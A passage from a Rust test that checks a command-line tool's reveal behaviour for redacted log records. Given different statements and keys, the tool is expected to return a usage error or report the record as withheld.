    assert_eq!(rc, 2, "a tombstone alone reveals nothing: {err}");
    assert!(err.contains("--statement"), "{err}");
    let statement = l.a.anchors.join(ORIGIN).join("redactions/00000000000000000202");
    assert!(statement.is_file());
    let (rc, text, err) = check(&[
        "--reveal",
        "202",
        "--record",
        &tombstone,
        "--statement",
        path_str(&statement),
        "--redaction-key",
        &l.red_vkey,
    ]);
    assert_eq!(rc, 1, "{text}{err}");
    let v: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(v["reveal"]["withheld"], true, "{text}");
    // A statement under a key not trusted for erasure: a usage error, nothing revealed.
    let (rc, _, err) = check(&[
        "--reveal",
        "202",
        "--record",
        &tombstone,
        "--statement",
        path_str(&statement),
        "--redaction-key",
        &l.a.verifier,
    ]);
    assert_eq!(rc, 2, "{err}");
}
